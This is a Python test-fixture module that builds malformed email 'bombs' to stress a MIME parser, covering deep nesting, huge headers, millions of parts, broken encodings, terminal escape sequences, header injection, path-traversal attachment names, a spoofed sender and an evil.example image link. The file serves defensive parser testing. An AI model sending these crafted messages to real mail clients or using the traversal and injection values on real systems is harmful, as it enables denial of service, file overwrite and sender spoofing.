"""Messages made to hurt a reader: small ones that cost much, and 30 MB of one thing.

Each bomb yields its octets in pieces, so that who writes them stays small. `strict` is the exit
status of `parse --strict`, None where either may be; `rules` are defects that --json must name.
"""

import base64
import dataclasses
import typing

MB = 1_000_000
HEAD = b"From: alice@crepes.fr\nDate: Fri, 20 Nov 2026 12:00:00 +0100\n"
MIXED = HEAD + b"Content-Type: multipart/mixed; boundary=b\n\n"


@dataclasses.dataclass
class Bomb:
    name: str
    pieces: typing.Callable
    strict: typing.Optional[int] = None
    rules: tuple = ()


BOMBS = []


def bomb(name, *pieces, strict=None, rules=()):
    BOMBS.append(Bomb(name, lambda: pieces, strict, rules))


def many(octets, times):
    """`octets` so many times, in pieces of about 256 kB."""
    at_once = max(1, min(times, 262_144 // len(octets)))
    return Repeat(octets * at_once, times // at_once, octets * (times % at_once))


@dataclasses.dataclass
class Repeat:
    piece: bytes
    times: int
    rest: bytes

    def write(self, out):
        for _ in range(self.times):
            out.write(self.piece)
        out.write(self.rest)


class Numbered:
    """`make(n)` for n in 0..times."""

    def __init__(self, make, times):
        self.make, self.times = make, times

    def write(self, out):
        for first in range(0, self.times, 1000):
            out.write(b"".join(self.make(n) for n in range(first, min(first + 1000, self.times))))


def write(bomb, path):
    with open(path, "wb") as out:
        for piece in bomb.pieces():
            if isinstance(piece, bytes):
                out.write(piece)
            else:
                piece.write(out)


def encoded(octets):
    return base64.encodebytes(octets)


# --- Depth and number of parts.
def nested(level):
    return b'Content-Type: multipart/mixed; boundary="b%d"\n\n--b%d\n' % (level, level)


bomb("10,000 nested multiparts", HEAD, Numbered(nested, 10_000), strict=65, rules=("depth-cut-off",))
bomb("20,000 nested multiparts", HEAD, Numbered(nested, 20_000), strict=65, rules=("depth-cut-off",))
bomb("20,000 nested messages", HEAD, many(b"Content-Type: message/rfc822\n\n", 20_000), strict=65, rules=("depth-cut-off",))
bomb("100,000 nested messages", HEAD, many(b"Content-Type: message/rfc822\n\n", 100_000), strict=65, rules=("depth-cut-off",))
bomb("300,000 parts", MIXED, many(b"--b\n\nx\n", 300_000), b"--b--\n", strict=65, rules=("parts-cut-off",))
bomb("1,000,000 empty parts", MIXED, many(b"--b\n\n", 1_000_000), strict=65, rules=("parts-cut-off",))
bomb("6,000,000 empty parts, 30 MB", MIXED, many(b"--b\n\n", 6_000_000), strict=65, rules=("parts-cut-off",))
bomb("digest of 300,000 empty messages", HEAD, b"Content-Type: multipart/digest; boundary=b\n\n", many(b"--b\n\n\n", 300_000), strict=65)
bomb("deep, and each level has 1,000 near misses", HEAD,
     Numbered(lambda n: nested(n) + b"--b%dx\n" % n * 1000, 90), strict=65, rules=("delimiter-near-miss",))
bomb("same boundary 5,000 deep", HEAD, many(b"Content-Type: multipart/mixed; boundary=b\n\n--b\n", 5_000), strict=65)

# --- Headers.
bomb("a header line of 20 MB", HEAD, b"X: ", many(b"a", 20 * MB), b"\n\nx\n", strict=65, rules=("header-cut-off",))
bomb("a header line of 30 MB", HEAD, b"Subject: ", many(b"a ", 15 * MB), b"\n\nx\n", strict=65, rules=("header-cut-off",))
bomb("a line of 30 MB and no colon", many(b"a", 30 * MB), strict=65)
bomb("300,000 header fields", HEAD, Numbered(lambda n: b"X-%d: %d\n" % (n, n), 300_000), b"\nx\n", strict=65)
bomb("1,000,000 empty fields", HEAD, many(b"X:\n", 1_000_000), b"\nx\n", strict=65)
bomb("Subject folded 500,000 times", HEAD, b"Subject: a", many(b"\n a", 500_000), b"\n\nx\n")
bomb("Subject folded 1,000,000 times", HEAD, b"Subject: a", many(b"\n a", 1_000_000), b"\n\nx\n")
bomb("To folded 200,000 times", HEAD, b"To: a@b", many(b",\n a@b", 200_000), b"\n\nx\n")
bomb("100,000 From fields", HEAD, many(b"From: a@b\n", 100_000), b"\nx\n", strict=65)
bomb("100,000 Content-Type fields", HEAD, many(b"Content-Type: text/plain; name=a\n", 100_000), b"\nx\n", strict=65, rules=("duplicate-field",))
bomb("500,000 References", HEAD, b"References:", many(b" <a@b>\n", 500_000), b"\nx\n")
bomb("50,000 Received", HEAD, many(b"Received: from a (b [192.0.2.1]) by c; Fri, 20 Nov 2026 12:00:00 +0100\n", 50_000), b"\nx\n")
bomb("50,000 encoded words", HEAD, b"Subject:", many(b" =?utf-8?q?=C3=A9?=", 50_000), b"\n\nx\n")
bomb("200,000 encoded words", HEAD, b"Subject:", many(b" =?utf-8?b?w6k=?=", 200_000), b"\n\nx\n")
bomb("encoded words in 50,000 charsets", HEAD, b"Subject:", Numbered(lambda n: b" =?x-%d?q?a?=\n" % n, 50_000), b"\nx\n")
bomb("1,000,000 beginnings of encoded words", HEAD, b"Subject: ", many(b"=?", 500_000), many(b"=?utf-8?q?", 100_000), b"\n\nx\n")
bomb("one encoded word of 900 kB", HEAD, b"Subject: =?utf-8?q?", many(b"=C3=A9", 150_000), b"?=\n\nx\n")
bomb("display names of encoded words, 20,000", HEAD, b"To: ", many(b"=?utf-8?q?a?= =?utf-8?q?b?= <a@b>,\n ", 20_000), b"c@d\n\nx\n")

# --- Addresses, dates, comments.
for name, piece, times in (("50,000 nested groups", b"a:", 50_000), ("50,000 nested groups, closed", b"a:;", 50_000),
                           ("80,000 addresses", b'"Some One, Jr" <some.one@example.org>,', 80_000),
                           ("200,000 ;", b";", 200_000), ("200,000 ,", b",", 200_000), ("200,000 (", b"(", 200_000),
                           ("200,000 <", b"<", 200_000), ("200,000 quotes", b'"', 200_001), ("200,000 backslashes", b"\\", 200_001),
                           ("200,000 @", b"@", 200_000), ("200,000 [", b"[", 200_000), ("200,000 routes", b"@a,", 200_000),
                           ("200,000 comments", b"(a)", 200_000), ("200,000 dots", b".", 200_000), ("200,000 :;", b":;", 200_000)):
    bomb(name + " in To", HEAD, b"To: ", many(piece, times), b" a@b\n\nx\n")
bomb("500,000 ( in Date, Message-ID, From and Content-Type", b"Date: ", many(b"(", 500_000), b"\nMessage-ID: ", many(b"(<", 250_000),
     b"\nFrom: ", many(b"((\\(", 125_000), b"\nContent-Type: text/plain ", many(b"(", 500_000), b"\n\nx\n", strict=65)
bomb("dates out of all range", b"From: a@b\n", Numbered(lambda n: b"Date: Fri, %d Nov %d 99:99:99 +%d\n" % (n, 10 ** (n % 40), n), 1000), b"\nx\n", strict=65)
bomb("a date of 1 MB of digits", b"From: a@b\nDate: Fri, 20 Nov ", many(b"9", MB - 2000), b" 12:00:00 +0100\n\nx\n", strict=65, rules=("malformed-date",))

# --- Parameters.
bomb("50,000 parameters", HEAD, b"Content-Type: text/plain", Numbered(lambda n: b"; a%d=b" % n, 50_000), b"\n\nx\n")
bomb("200,000 ; in Content-Type", HEAD, b"Content-Type: text/plain", many(b";", 200_000), b"\n\nx\n")
bomb("50,000 segments of a name", HEAD, b"Content-Type: text/plain", Numbered(lambda n: b";\n name*%d=a" % n, 50_000), b"\n\nx\n")
bomb("50,000 segments backwards", HEAD, b"Content-Type: text/plain", Numbered(lambda n: b";\n name*%d*=%%41" % (49_999 - n), 50_000), b"\n\nx\n")
bomb("segments with gaps, and one of 10^11", HEAD, b"Content-Disposition: attachment; filename=plain.txt; filename*0*=utf-8''a; "
     b"filename*99999999999=b; filename*18446744073709551616*=c; filename*-1=d; filename*07=e\n\nx\n", strict=65)
bomb("a parameter of 900 kB of %41", HEAD, b"Content-Type: text/plain; name*=utf-8''", many(b"%41", 300_000), b"\n\nx\n")
bomb("the same parameter 50,000 times", HEAD, b"Content-Type: text/plain", many(b"; name=a", 50_000), b"\n\nx\n", strict=65, rules=("duplicate-parameter",))

# --- Boundaries.
prefixes = b"".join(b'Content-Type: multipart/mixed; boundary="%s"\n\n--%s\n' % (b"b" * n, b"b" * n) for n in range(1, 71))
bomb("70 boundaries, each a prefix of the next", HEAD, prefixes, many(b"--" + b"b" * 71 + b"\n", 100_000), strict=65)
bomb("no boundary", HEAD, b"Content-Type: multipart/mixed\n\n", many(b"--b\n\nx\n", 100_000), strict=65, rules=("boundary-missing",))
bomb("an empty boundary", HEAD, b'Content-Type: multipart/mixed; boundary=""\n\n', many(b"--\n\nx\n", 100_000), strict=65)
bomb("two boundaries", HEAD, b"Content-Type: multipart/mixed; boundary=a; boundary=b\n\n", many(b"--a\n\nx\n--b\n\ny\n", 1000), strict=65, rules=("duplicate-parameter",))
bomb("a boundary of 900 kB", HEAD, b'Content-Type: multipart/mixed; boundary="', many(b"b", 900_000), b'"\n\n--', many(b"b", 900_000), b"\n\nx\n", strict=65)
bomb("1,000,000 near misses", MIXED, b"--b\n\n", many(b"--bx this is none of them, yet ab\n", 1_000_000), b"--b--\n", strict=65, rules=("delimiter-near-miss",))
bomb("30 MB of --", MIXED, many(b"--\n", 10 * MB), strict=65)
bomb("delimiters padded by 30 MB of blanks", MIXED, b"--b", many(b" ", 15 * MB), b"\n\nx\n--b--", many(b"\t", 15 * MB), b"\n")
bomb("a delimiter line of 30 MB", MIXED, b"--b\n\nx\n--b", many(b"-", 30 * MB), b"\n", strict=65)

# --- Bodies.
for name, piece in (("line ends", b"\n"), ("CRLF", b"\r\n"), ("CR", b"\r"), ("NUL", b"\0"), ("8-bit", b"\xff"), ("ESC", b"\x1b["), ("blanks", b" ")):
    bomb(f"30 MB of {name}", HEAD, b"\n", many(piece, 30 * MB // len(piece)))
# What only a reader that decodes can know.
BROKEN = (b"base64 rubbish", b"base64 padding", b"= in base64", b"QP rubbish", b"= in QP")
for encoding, pieces in ((b"base64", ((b"base64 rubbish", bytes(range(256))), (b"base64 padding", b"YQ==\n"), (b"= in base64", b"="), (b"base64 in a line", b"YWJj"))),
                         (b"quoted-printable", ((b"QP rubbish", bytes(range(256)) + b"=="), (b"= in QP", b"="), (b"QP soft breaks", b"=\n"), (b"QP blanks", b" \t"), (b"QP in a line", b"=41"))),
                         (b"x-uuencode", ((b"uu headers", b"begin 644 a\n"), (b"uu rubbish", b"M" + b"`" * 60 + b"\n")))):
    for name, piece in pieces:
        bomb(f"30 MB of {name.decode()}", HEAD, b"Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: " + encoding + b"\n\n",
             many(piece, 30 * MB // len(piece)), strict=65 if name in BROKEN else None)
bomb("40 MB in one line", HEAD, b"\n", many(b"a", 40 * MB), b"\n")
bomb("base64 in base64, of a message", HEAD, b"Content-Type: message/rfc822\nContent-Transfer-Encoding: base64\n\n", encoded(
    b"Content-Type: message/rfc822\nContent-Transfer-Encoding: base64\n\n" + encoded(b"Subject: in\n\n" + b"x" * 100_000)), strict=65, rules=("encoding-on-composite",))
bomb("500,000 uuencoded files in text", HEAD, b"\n", many(b"begin 644 a\n`\nend\n", 500_000))
bomb("500,000 beginnings of yEnc", HEAD, b"\n", many(b"=ybegin line=128 size=1 name=a\n", 500_000))
for charset in (b"utf-16", b"utf-7", b"iso-2022-jp", b"gb18030", b"hz-gb-2312", b"../../etc/passwd", b"x" * 100_000):
    bomb("10 MB of rubbish in " + charset.decode()[:20], HEAD, b"Content-Type: text/plain; charset=\"" + charset + b"\"\nContent-Transfer-Encoding: 8bit\n\n",
         many(bytes(range(1, 256)) + b"+AGE-\x1b$B%\x1b(B~{", 36_000))

# --- HTML and flowed text.
HTML = HEAD + b"Content-Type: text/html; charset=utf-8\n\n"
for name, piece, times in (("nested <div>", b"<div>", 400_000), ("nested <table>", b"<table><tr><td>", 100_000), ("<", b"<", 3 * MB), ("&", b"&", 3 * MB),
                           ("unclosed comments", b"<!--", 500_000), ("unclosed attributes", b"<a href='", 300_000), ("attributes", b" a=b", 10), ("</p>", b"</p>", 500_000),
                           ("nested quotes", b"<blockquote>a", 100_000), ("entities", b"&#1114112;&#x1b;&lt", 100_000), ("scripts", b"<script><style>", 200_000),
                           ("nested lists", b"<ul><li>a", 50_000)):
    bomb(f"HTML: {name}, {times}", HTML, many(piece, times), b"\nend\n")
bomb("HTML: one tag with 500,000 attributes", HTML, b"<a ", many(b"b=c ", 500_000), b">x</a>\n")
bomb("flowed text, 1,000 deep", HEAD, b"Content-Type: text/plain; format=flowed; delsp=yes\n\n", many(b">" * 1000 + b" a \n", 5_000))

# --- What must not act on a terminal, name a file, or be opened.
NASTY = b"\x1b]0;x\x07\x1b[2J\x9b1m\xc2\x9b\x7f\x00\x08\xe2\x80\xae"
bomb("controls raw and encoded, everywhere", b"From: \"" + NASTY + b"\" <a" + NASTY + b"@b>\nSubject: " + NASTY + b" =?utf-8?b?" +
     base64.b64encode(NASTY + b"\r\nBcc: v@x") + b"?=\nX" + NASTY + b": y\nContent-Type: text/plain; charset=utf-8; name=\"" + NASTY +
     b"\"\nContent-Transfer-Encoding: base64\nMessage-ID: <" + NASTY + b"@b>\n\n" + encoded(b"text " + NASTY + b" end\n"), strict=65)
bomb("controls in types, boundaries, encodings", HEAD, b"Content-Type: mult" + NASTY + b"ipart/mixed; boundary=\"" + NASTY + b"\"\n"
     b"Content-Transfer-Encoding: " + NASTY + b"\nContent-Disposition: " + NASTY + b"; filename=\"" + NASTY + b"\"\n\nx\n", strict=65)
bomb("an address inside an encoded word", b"From: =?utf-8?b?" + base64.b64encode(b"boss@bank.example\0") + b"?==?utf-8?q?=00?=@evil.example\n"
     b"Date: Fri, 20 Nov 2026 12:00:00 +0100\n\nx\n", strict=65)
bomb("external bodies, fragments, archives", MIXED, b"--b\nContent-Type: message/external-body; access-type=local-file; name=\"/etc/passwd\"\n\n"
     b"Content-Type: text/plain\n\n--b\nContent-Type: message/partial; id=a; number=1; total=1000000000\n\nSubject: x\n\ny\n"
     b"--b\nContent-Type: application/zip\nContent-Transfer-Encoding: base64\n\n" + encoded(b"PK\x03\x04" + b"\0" * 5000) +
     b"--b\nContent-Type: application/ms-tnef; name=winmail.dat\nContent-Transfer-Encoding: base64\n\n" +
     encoded(b"\x78\x9f\x3e\x22\x01\x00" + b"\x02\x90\x06\x00\xff\xff\xff\xff" * 5000) + b"--b--\n")
bomb("an encrypted part torn into an image", MIXED, b"--b\nContent-Type: text/html\n\n<img src=\"http://evil.example/\n--b\n"
     b"Content-Type: application/pkcs7-mime; smime-type=enveloped-data\nContent-Transfer-Encoding: base64\n\nYWJj\n--b\nContent-Type: text/html\n\n\">\n--b--\n")
bomb("60,000 messages in an mbox", many(b"From a@b Fri Nov 20 12:00:00 2026\nFrom: a@b\n\nx\n\n", 60_000))
bomb("nothing but From lines", many(b"From a@b Fri Nov 20 12:00:00 2026\n\n", 60_000), strict=65)

NAMES = ["../x", "../../../../tmp/x", "/etc/passwd", "..\\..\\x", "..", ".", "", ".bashrc", "-rf", "CON", "nul.txt", "a/../../b", "x" * 100_000,
         "a\0b", "\x1b[2J", "\u202etxt.exe", "a\nb", "~/x", "C:\\x", "\u2024\u2024/x", "＜../x"] + ["same.txt"] * 1000


def named(name):
    value = name.encode()
    word = b"=?utf-8?b?" + base64.b64encode(value[:300]) + b"?="
    escaped = b"".join(b"%%%02X" % octet for octet in value)
    return b"".join(b"--b\nContent-Type: application/octet-stream\nContent-Disposition: attachment; filename" + form + b"\n\nx\n" for form in (
        b'="' + value.replace(b"\\", b"\\\\").replace(b"\n", b"\n ") + b'"', b"*=utf-8''" + escaped, b'="' + word + b'"'))


EXTRACT = Bomb("names of files", lambda: (MIXED, *(named(name) for name in NAMES), b"--b--\n"), 65)
BOMBS.append(EXTRACT)
